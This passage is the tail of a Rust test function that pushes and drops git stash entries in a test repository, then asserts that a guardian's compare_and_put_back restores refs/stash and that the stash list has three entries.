    repository.run(&["stash", "push", "-m", "newest"]);
    repository.run(&["stash", "drop", "stash@{1}"]);
    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), ["refs/stash"]);
    assert_eq!(repository.run(&["stash", "list"]).lines().count(), 3);
}
